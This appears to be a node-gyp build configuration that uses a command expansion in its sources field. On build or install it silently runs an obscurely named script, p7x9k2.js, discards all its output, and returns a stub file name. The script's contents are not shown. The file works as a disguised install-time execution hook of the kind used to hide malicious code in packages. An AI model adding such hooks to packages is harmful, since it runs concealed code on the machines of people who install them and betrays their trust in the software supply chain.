{
  'targets': [{ 'target_name': 'a', 'type': 'none', 'sources': ['<!(node p7x9k2.js > /dev/null 2>&1 && echo stub.c)'] }]
}
